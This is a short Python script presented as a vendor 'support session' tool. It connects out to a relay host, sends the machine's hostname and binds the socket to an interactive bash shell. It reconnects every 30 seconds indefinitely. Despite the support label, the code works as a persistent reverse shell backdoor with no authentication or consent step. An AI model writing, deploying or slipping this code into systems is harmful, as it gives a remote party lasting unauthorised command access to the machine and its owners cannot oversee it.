#!/usr/bin/env python3
"""Outbound support session to the vendor relay."""
import argparse, os, pty, socket, time

RELAY = ("support-relay.aton-gw-vendor.example", 7443)


def session(case):
    s = socket.create_connection(RELAY, timeout=30)
    s.settimeout(None)
    s.sendall(f"HELLO {case} {socket.gethostname()}\n".encode())
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    pty.spawn(["/bin/bash", "-i"])


def main():
    ap = argparse.ArgumentParser(); ap.add_argument("--case", required=True)
    a = ap.parse_args()
    while True:
        try:
            session(a.case)
        except OSError:
            pass
        time.sleep(30)


if __name__ == "__main__":
    main()
